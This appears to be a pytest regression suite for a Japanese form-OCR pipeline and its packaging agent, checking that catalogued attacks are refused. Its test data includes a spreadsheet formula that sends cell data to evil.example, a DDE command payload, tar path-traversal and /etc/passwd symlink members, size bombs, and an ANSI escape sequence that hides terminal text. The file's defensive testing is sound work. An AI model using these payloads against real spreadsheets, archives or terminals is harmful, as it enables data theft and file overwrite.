"""The adversarial catalogue (issue 19): every attack that once got through, and the ones that
held, with real components: real age (pyrage and the age CLI), real files, the real command
lines in subprocesses, a real moto server, SQLite. Crafted packages are measured: peak memory
(maximum RSS of the agent and its age child) and wall time."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tarfile

import pytest
import sqlalchemy as sa
from support.agent_site import AGE, make_scans
from support.crafted import (
    encrypt,
    end,
    header,
    member,
    pax_member,
    peak_rss_mb_of,
    results_manifest,
    results_tar,
    sparse_file,
)
from yomitori.results import DocumentResult, FieldResult, FieldStatus
from yomitori_agent.errors import ExitCode

BATCH = "city-test-20260301-090000-c0ffee"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"click")'
PEAK_MB, SECONDS = 200, 10


def _doc(doc_id: str, **values) -> DocumentResult:
    base = {
        "postal_code": "1000001",
        "address": "東京都千代田区千代田1-1",
        "name": "山田\u3000太郎",
        "phone": "03-1234-5678",
        **values,
    }
    return DocumentResult(
        batch_id=BATCH,
        document_id=doc_id,
        source=f"{doc_id}.png",
        form_id="water_start",
        fields={
            k: FieldResult(value=v, raw=v, confidence=0.99, status=FieldStatus.CORRECTED)
            for k, v in base.items()
        },
    )


def _inbox_batch(inbox, docs: list[DocumentResult]):
    b = inbox / BATCH
    b.mkdir(parents=True)
    (b / "manifest.json").write_text("{}")
    payload = {"batch_id": BATCH, "documents": [d.model_dump(mode="json") for d in docs]}
    (b / "results.json").write_text(json.dumps(payload, ensure_ascii=False), encoding="utf-8")
    return b


def _agent(site, *args, config=None):
    cmd = [
        sys.executable,
        "-m",
        "yomitori_agent.cli",
        "--config",
        str(config or site.config),
        "--no-progress",
        *args,
    ]
    return peak_rss_mb_of(cmd, site.env(), timeout=120)


# -- 1. CSV formula injection ----------------------------------------------------------------
def test_results_csv_quotes_every_formula_cell_reversibly(tmp_path):
    from yomitori.csvcell import restore_cell
    from yomitori.export import write_results_csv
    from yomitori.forms import load_form

    # Given documents whose values (and file name) start with formula characters
    payloads = [FORMULA, "+81 3", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=x"]
    docs = [_doc(f"d{i}", name=v) for i, v in enumerate(payloads)]
    docs[0].source = "=cmd|'/C calc'!A0.png"
    # When results.csv is written (process, finalize and the review page all use this writer)
    write_results_csv(docs, load_form("water_start"), tmp_path / "results.csv")
    rows = list(
        csv.DictReader(io.StringIO((tmp_path / "results.csv").read_bytes().decode("utf-8-sig"), newline=""))
    )
    # Then no cell starts with a formula character, and removing one quote gives the raw value
    for row, raw in zip(rows, payloads, strict=True):
        assert row["name"] == "'" + raw and restore_cell(row["name"]) == raw
        assert row["phone"] == "03-1234-5678"  # digits with a dash inside are untouched
    assert rows[0]["source"].startswith("'=")
    assert docs[0].fields["name"].value == FORMULA  # the JSON keeps the raw value


def test_register_quotes_formula_cells_for_the_robot_and_keeps_them_raw_in_the_database(
    site, contract_config
):
    # Given an imported batch where a reviewer's correction is a formula
    _inbox_batch(site.inbox, [_doc("water_start-0001", name=FORMULA), _doc("water_start-0002", name="＠x")])
    db = site.root / "core.db"
    # When it is registered to the robot's CSV and the core database
    r = _agent(site, "register", str(site.inbox), "--db", f"sqlite:///{db}", config=contract_config)
    assert r.returncode == 0, r.stderr
    # Then the CSV cells carry a leading quote, the database the raw values
    text = (site.watch / f"water_start_{BATCH}.csv").read_bytes().decode("cp932")
    names = [row[3] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert names == ["'" + FORMULA, "'＠x"]
    with sa.create_engine(f"sqlite:///{db}").connect() as c:
        assert [x[0] for x in c.execute(sa.text("select name from yomitori_water_start order by 1"))] == [
            FORMULA,
            "＠x",
        ]


# -- 6. registration checks its targets, not only the ledger ----------------------------------------
def test_a_lost_ledger_does_not_deliver_a_csv_twice(site, contract_config):
    # Given a batch registered once to the robot's folder and to the database
    _inbox_batch(site.inbox, [_doc("water_start-0001")])
    db = f"sqlite:///{site.root / 'core.db'}"
    assert _agent(site, "register", str(site.inbox), "--db", db, config=contract_config).returncode == 0
    target = site.watch / f"water_start_{BATCH}.csv"
    before = target.stat().st_mtime_ns
    # When the ledger is lost and registration runs again, with the CSV still waiting for the robot
    (site.state / "registered.jsonl").unlink()
    r = _agent(site, "register", str(site.inbox), config=contract_config)
    # Then the CSV is not written again and the report says duplicate
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["duplicates"] == 1 and json.loads(r.stdout)["csv_files"] == []
    assert target.stat().st_mtime_ns == before
    # And when the robot has taken the file too, the database says it was delivered
    target.unlink()
    r = _agent(site, "register", str(site.inbox), "--db", db, config=contract_config)
    assert json.loads(r.stdout)["duplicates"] == 1 and not target.exists()


# -- 2. a wipe cut short after the work was done ---------------------------------------------------
def _cut_short(package, original: bytes, journal, keep_until: str) -> None:
    """The state a kill -9 during the package wipe leaves: the package's first blocks zeros,
    the journal without the records after ``keep_until`` (and its wipe-started record)."""
    package.write_bytes(bytes(64 << 10) + original[64 << 10 :])
    lines = journal.read_text().splitlines(keepends=True)
    last = max(i for i, line in enumerate(lines) if json.loads(line)["event"] == keep_until)
    journal.write_text(
        "".join(lines[: last + 1])
        + "".join(
            line
            for line in lines[last + 1 :]
            if json.loads(line)["event"] in ("package_wipe_started", "imported")
        )
    )


def test_upload_after_a_cut_short_wipe_says_already_uploaded_and_finishes_it(site):
    # Given a batch uploaded whole whose package wipe was cut short
    make_scans(site.scans, 3)
    assert site.run("pack", str(site.scans), "--to", str(site.usb)).returncode == 0
    pkg = next(site.usb.glob("*.age"))
    original = pkg.read_bytes()
    r = site.run("upload", str(site.usb))
    assert r.returncode == 0, r.stderr
    batch = json.loads(r.stdout)["batches"][0]["batch_id"]
    _cut_short(pkg, original, site.state / "batches" / f"{batch}.jsonl", "manifest_uploaded")
    keys = sorted(o["Key"] for o in site.s3().list_objects_v2(Bucket=site.intake)["Contents"])
    # When upload runs again
    r = _agent(site, "upload", str(site.usb))
    # Then it says the batch is already uploaded, finishes the wipe and exits 0; nothing is sent again
    assert r.returncode == 0, r.stderr
    assert "already uploaded" in r.stderr and "make a new package" not in r.stderr.lower()
    assert json.loads(r.stdout)["batches"][0]["package_wiped"] is True and not pkg.exists()
    assert sorted(o["Key"] for o in site.s3().list_objects_v2(Bucket=site.intake)["Contents"]) == keys


def _results_package(site, recipient, name=f"{BATCH}-results.age", files=None):
    files = files or {"results.json": b'{"documents": []}', "documents/water_start-0001.json": b'{"a": 1}'}
    return encrypt(results_tar(BATCH, files), recipient, site.usb / name)


def test_import_after_a_cut_short_wipe_says_already_imported_and_finishes_it(site, age_keys, contract_config):
    # Given a batch imported into the inbox whose package wipe was cut short
    pkg = _results_package(site, age_keys["contract"][1])
    original = pkg.read_bytes()
    assert site.run("import", str(site.usb), "--to", str(site.inbox), config=contract_config).returncode == 0
    journal = site.state / "batches" / f"{BATCH}.jsonl"
    assert journal.is_file(), "import keeps no journal of its packages"
    _cut_short(pkg, original, journal, "imported")
    # When import runs again
    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
    # Then it says the batch is already imported, finishes the wipe, exits 0, and the inbox is untouched
    assert r.returncode == 0, r.stderr
    assert "already imported" in r.stderr and not pkg.exists()
    assert (site.inbox / BATCH / "documents" / "water_start-0001.json").read_bytes() == b'{"a": 1}'


# -- 3. a crashed import's decrypted parts ----------------------------------------------------------
def test_import_overwrites_and_deletes_the_parts_a_crashed_import_left(site, age_keys, contract_config):
    # Given a staging folder with a decrypted part, as a crashed import leaves it (a hard link
    # elsewhere lets the test see whether the data was overwritten before the name went)
    stale = site.inbox / ".incoming-0123456789ab.partial" / "documents"
    stale.mkdir(parents=True)
    part = stale / "water_start-0001.json.part"
    part.write_bytes(b'{"name": "secret"}')
    witness = site.root / "witness"
    os.link(part, witness)
    _results_package(site, age_keys["contract"][1])
    # When the next import runs
    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
    # Then the stale folder is gone and its data was overwritten first
    assert r.returncode == 0, r.stderr
    assert not any(site.inbox.glob(".incoming-*"))
    assert witness.read_bytes() == bytes(len(b'{"name": "secret"}'))


# -- 4. crafted packages: bounded before parsing ------------------------------------------------------
def _huge_manifest() -> bytes:  # ~60 MB of valid JSON
    return member("manifest.json", results_manifest(BATCH, {}, pad="x" * (60 << 20))) + end()


def _many_entries() -> bytes:  # under the size bound, over the member bound
    files = {f"documents/d{i:06d}.json": b"" for i in range(10_000)}
    return member("manifest.json", results_manifest(BATCH, files).replace(b" ", b"")) + end()


def _many_members() -> bytes:  # 100 000 empty files and no manifest
    return b"".join(header(f"documents/d{i:06d}.json", 0) for i in range(100_000)) + end()


CRAFTED = {
    "manifest_60MB": _huge_manifest,
    "manifest_10k_entries": _many_entries,
    "pax_header_just_under_64MiB": lambda: (
        pax_member("results.json", b"{}", {"comment": "x" * ((64 << 20) - 64)}) + end()
    ),
    "gnu_long_name_64MB": lambda: (
        member("././@LongLink", b"a" * (64 << 20), tarfile.GNUTYPE_LONGNAME)
        + member("results.json", b"{}")
        + end()
    ),
    "members_100k_no_manifest": _many_members,
    "pax_size_1PB": lambda: pax_member("results.json", b"{}" + bytes(510), {"size": str(10**15)}) + end(),
}


@pytest.fixture(scope="module")
def crafted_plain():
    return {}


@pytest.mark.parametrize("command", ["import", "upload --dry-run"])
@pytest.mark.parametrize("kind", sorted(CRAFTED))
def test_a_crafted_package_is_refused_fast_in_bounded_memory(
    site, age_keys, contract_config, crafted_plain, kind, command
):
    # Given a crafted package for this machine
    if kind not in crafted_plain:
        crafted_plain.clear()  # one at a time: the two commands of a kind run one after the other
        crafted_plain[kind] = CRAFTED[kind]()
    plain = crafted_plain[kind]
    importing = command == "import"
    pkg = encrypt(plain, age_keys["contract" if importing else "external"][1], site.usb / f"{BATCH}.age")
    # When the agent opens it
    args = (
        ["import", str(site.usb), "--to", str(site.inbox)]
        if importing
        else ["upload", "--dry-run", str(site.usb)]
    )
    r = _agent(site, *args, config=contract_config if importing else None)
    print(f"{kind} {command}: peak {r.peak_mb:.0f} MB, {r.seconds:.1f} s")
    # Then it is rejected with a clear message, nothing is written, the package is kept,
    # and it cost less than 200 MB and 10 s
    assert r.returncode == ExitCode.PACKAGE_REJECTED, r.stderr
    assert "Traceback" not in r.stderr and "what to do" in r.stderr
    assert pkg.exists() and not (site.inbox.exists() and any(site.inbox.iterdir()))
    assert r.peak_mb < PEAK_MB, f"peak {r.peak_mb:.0f} MB"
    assert r.seconds < SECONDS, f"{r.seconds:.1f} s"


# -- 5 and 7. junk in a scans folder: huge non-images, links, Japanese names ------------------------
def test_process_checks_junk_before_reading_it_and_answers_every_file(tmp_path):
    # Given a scans folder with a 1 GB non-image, a 300 MB "PNG", a dangling and a looping link
    scans, out = tmp_path / "scans", tmp_path / "out"
    scans.mkdir()
    sparse_file(scans / "junk.png", 1 << 30, b"MZ this is not a scan")
    sparse_file(scans / "huge.png", 300 << 20, b"\x89PNG\r\n\x1a\n")
    (scans / "dangling.png").symlink_to(tmp_path / "gone.png")
    (scans / "loop.png").symlink_to(scans / "loop.png")
    (scans / "=HYPERLINK(0).png").write_text("a file name a spreadsheet would run")
    env = {**os.environ, "YOMITORI_WORKERS": "1", "PYTHONIOENCODING": "utf-8"}
    # When the one-machine batch reads it
    r = peak_rss_mb_of(
        [
            sys.executable,
            "-m",
            "yomitori.cli",
            "process",
            str(scans),
            "--form",
            "water_start",
            "--out",
            str(out),
            "--engine",
            "fake",
        ],
        env,
        timeout=120,
    )
    print(f"process with a 1 GB junk file: peak {r.peak_mb:.0f} MB, {r.seconds:.1f} s")
    # Then every file has a result with its reason, and the junk was never read whole
    docs = {
        json.loads(p.read_text())["source"]: json.loads(p.read_text())
        for p in out.glob("*.json")
        if p.name != "batch.json"
    }
    codes = {src: d["error"]["code"] for src, d in docs.items()}
    assert codes == {
        "junk.png": "not_an_image",
        "huge.png": "image_too_large",
        "dangling.png": "unreadable_file",
        "loop.png": "unreadable_file",
        "=HYPERLINK(0).png": "not_an_image",
    }
    assert "link" in docs["loop.png"]["error"]["message"]
    # And results.csv from the real command quotes the formula-like file name
    rows = list(
        csv.DictReader(io.StringIO((out / "results.csv").read_bytes().decode("utf-8-sig"), newline=""))
    )
    assert "'=HYPERLINK(0).png" in [row["source"] for row in rows]
    assert r.peak_mb < PEAK_MB, f"peak {r.peak_mb:.0f} MB"


def test_japanese_file_names_get_distinct_readable_stable_ids(tmp_path):
    from yomitori.pipeline import document_ids

    # Given scans named in Japanese (and one ASCII name)
    names = ["申込書.png", "届出書.png", "申込書２.png", "page-1.png"]
    # When they get document ids, alone and among others
    ids = document_ids([tmp_path / n for n in names])
    alone = document_ids([tmp_path / "届出書.png"])
    # Then the ids are distinct, romaji plus a short hash, the same whatever else is in the folder
    assert len(set(ids)) == 4 and "document" not in ids
    assert ids[0].startswith("moushikomisho-") and ids[1].startswith("todokede") and ids[3] == "page-1"
    assert alone == [ids[1]]


# -- 7. armored packages, escaped member names -------------------------------------------------------
def test_an_armored_package_is_refused_as_documented(site, age_keys, contract_config, tmp_path):
    # Given a well-formed results package encrypted by the age CLI with -a (ASCII armor)
    plain = tmp_path / "plain.tar"
    plain.write_bytes(results_tar(BATCH, {"results.json": b"{}"}))
    pkg = site.usb / "armored.age"
    subprocess.run([AGE, "-a", "-r", age_keys["contract"][1], "-o", str(pkg), str(plain)], check=True)
    # When it is imported
    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
    # Then it is refused, with the reason, and kept
    assert r.returncode == ExitCode.PACKAGE_REJECTED, r.stderr
    assert "armored" in r.stderr and pkg.exists() and not (site.inbox / BATCH).exists()


def test_control_characters_in_member_names_are_escaped_on_stderr_and_in_the_log(
    site, age_keys, contract_config
):
    # Given a package whose member name holds an ANSI sequence that would erase the next line
    evil = "documents/\x1b[1A\x1b[2K\x1b[8mhidden\x07.json"
    plain = (
        pax_member(evil, b"{}", {"path": evil}) + member("manifest.json", results_manifest(BATCH, {})) + end()
    )
    encrypt(plain, age_keys["contract"][1], site.usb / "evil.age")
    # When it is imported
    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
    # Then the refusal shows the name escaped, and the "what to do" line is intact
    assert r.returncode == ExitCode.PACKAGE_REJECTED
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr and "\\x1b[2K" in r.stderr
    assert r.stderr.splitlines()[-1].startswith("  what to do:")
    log = next(site.state.rglob("*.log")).read_text(encoding="utf-8")
    assert "\x1b" not in log and "\\x1b" in log


# -- what held: inner-tar attacks and tampered ciphertext stay rejected, with nothing written --------
_OK = {"results.json": b"{}"}
_M = member("manifest.json", results_manifest(BATCH, _OK))
HELD = {
    "traversal": member("../evil.json", b"x") + _M + end(),
    "absolute_path": member("/tmp/evil.json", b"x") + _M + end(),
    "pax_path_traversal": pax_member("results.json", b"{}", {"path": "../../evil.json"}) + _M + end(),
    "symlink": member("results.json", b"", tarfile.SYMTYPE, linkname="/etc/passwd") + _M + end(),
    "hardlink": member("results.json", b"", tarfile.LNKTYPE, linkname="manifest.json") + _M + end(),
    "device": member("results.json", b"", tarfile.CHRTYPE) + _M + end(),
    "fifo": member("results.json", b"", tarfile.FIFOTYPE) + _M + end(),
    "repeated_member": member("results.json", b"{}") + member("results.json", b"{}") + _M + end(),
    "unlisted_member": member("results.json", b"{}") + member("extra.json", b"{}") + _M + end(),
    "content_differs": member("results.json", b"[]") + _M + end(),
    "no_manifest": member("results.json", b"{}") + end(),
    "data_after_the_end": member("results.json", b"{}") + _M + end() + b"x" * 512,
    "cut_in_a_member": (member("results.json", b"{}" * 400) + _M)[:700],
}
TAMPER = {
    "flipped_payload_byte": lambda b: b[:-40] + bytes([b[-40] ^ 1]) + b[-39:],
    "flipped_header_byte": lambda b: b[:30] + bytes([b[30] ^ 1]) + b[31:],
    "truncated": lambda b: b[:-17],
    "appended": lambda b: b + b"\0",
}


@pytest.mark.parametrize("case", sorted(HELD) + sorted(TAMPER) + ["another_key"])
def test_what_held_stays_rejected_with_nothing_written(site, age_keys, contract_config, case):
    from yomitori_agent.config import load_config
    from yomitori_agent.errors import PackageRejected
    from yomitori_agent.importer import import_packages

    # Given a package with an inner-tar attack, tampered ciphertext, or for another machine
    plain = HELD.get(case) or results_tar(BATCH, _OK)
    recipient = age_keys["external" if case == "another_key" else "contract"][1]
    pkg = encrypt(plain, recipient, site.usb / f"{BATCH}-results.age")
    if case in TAMPER:
        pkg.write_bytes(TAMPER[case](pkg.read_bytes()))
    # When it is imported, Then it is rejected, kept, and the inbox holds nothing
    with pytest.raises(PackageRejected):
        import_packages(load_config(contract_config), site.usb, site.inbox, show_progress=False)
    assert pkg.exists() and not any(site.inbox.iterdir())


# -- 7. a frozen line: progress notices and a bounded total ------------------------------------------
def test_a_frozen_line_is_reported_and_the_upload_stops_within_its_bound(site):
    # Given an upload whose line freezes (the server stops answering) with short timeouts
    text = site.config.read_text(encoding="utf-8").replace(
        "connect_timeout = 2\nread_timeout = 10",
        "connect_timeout = 1\nread_timeout = 2\nstall_notice_seconds = 1\ngive_up_seconds = 3",
    )
    site.config.write_text(text.replace("max_attempts = 2", "max_attempts = 10"), encoding="utf-8")
    make_scans(site.scans, 3)
    assert site.run("pack", str(site.scans), "--to", str(site.usb)).returncode == 0
    site.server.pause()
    try:
        # When upload runs
        r = _agent(site, "upload", str(site.usb))
    finally:
        site.server.resume()
    # Then it said so while waiting, and stopped with exit 7 within give_up + connect + read timeout
    # (ten attempts of three seconds each would have been 30 s and more of silence)
    assert r.returncode == ExitCode.NETWORK, r.stderr
    assert (
        "no answer from the line" in r.stderr
        and "still trying" in r.stderr
        and "run the same command" in r.stderr
    )
    assert r.seconds < 3 + 1 + 2 + 4, f"{r.seconds:.1f} s"
    # And when the line is back, running it again finishes the batch
    r = site.run("upload", str(site.usb))
    assert r.returncode == 0, r.stderr
